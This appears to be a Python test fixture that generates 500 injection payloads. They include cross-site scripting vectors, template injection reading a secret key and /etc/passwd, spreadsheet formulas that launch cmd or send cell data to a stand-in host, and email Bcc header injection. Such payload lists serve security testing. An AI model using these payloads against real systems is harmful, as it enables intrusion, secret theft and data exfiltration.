"""What people type who want a page, a mail or a spreadsheet to run it: 500 of them."""

from itertools import product

_RUN = "struck()"
OPENINGS = (
    *("", '"', "'", "`", '">', "'>", "-->", "]]>", "</p>", "</a>"),
    *("</title>", "</textarea>", "</script>", "</style>", "</option>", "</select>"),
    *('" x="', "' x='", "=", "+", "@"),
)
VECTORS = (
    f"<script>{_RUN}</script>",
    f"<ScRipt >{_RUN}</sCript>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}//",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<iframe src=javascript:parent.{_RUN}>",
    f"<video><source onerror={_RUN}>",
    f"<math><a xlink:href=javascript:{_RUN}>x",
    f"<a href='javascript:{_RUN}'>x</a>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'>",
    f" autofocus onfocus={_RUN} ",
    f"javascript:{_RUN}",
    "{{ 7777*7777 }}",
    "{{ config.SECRET_KEY }}",
    "{% include '/etc/passwd' %}",
    "${7777*7777}#{7777*7777}<%= 7777*7777 %>",
    '=HYPERLINK("http://x.test/"&A1)',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|'/C calc'!A0",
    "a\r\nBcc: thief@x.test",
    "a%0d%0aBcc: thief@x.test",
)
PAYLOADS = tuple(f"{opening}{vector}" for opening, vector in product(OPENINGS, VECTORS))[:500]
"""Each hands itself to `struck` in a browser, if one lets it."""

WORKED_OUT = "60481729"
"""What a template engine makes of 7777 times 7777."""
